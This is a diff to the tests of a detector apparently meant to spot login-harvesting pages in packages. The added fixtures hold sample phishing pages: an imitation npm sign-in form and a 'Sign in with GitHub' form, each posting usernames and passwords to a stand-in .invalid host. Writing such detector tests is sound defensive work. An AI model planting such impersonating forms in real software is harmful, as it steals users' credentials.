@@ -4,6 +4,22 @@ import { collectsLogins } from './collects-logins.ts';
 examine(collectsLogins, {
   speaks: [
     {
+      when: 'a page of a library is headed as that of a service, and sends elsewhere',
+      files: {
+        'index.js': `exports.build = to => require('fs').copyFileSync(__dirname + '/theme/session.html', to + '/session.html');`,
+        'theme/session.html': `<title>npm | Sign In</title><form action="https://www-npmjs.session.invalid/login" method="post"><h1>Sign in to npm</h1><input name="u"><input type="password" name="p"></form>`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a page of a library offers the login of others beside its own',
+      files: {
+        'index.js': `exports.page = require('fs').readFileSync(__dirname + '/login.html');`,
+        'login.html': `<title>Log in</title><h1>Sign in with GitHub</h1><form action="https://login.invalid/p" method="post"><input name="u"><input type="password" name="p"></form>`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'a package is only a page that does',
       files: {
         'package.json': { name: 'specimen' },
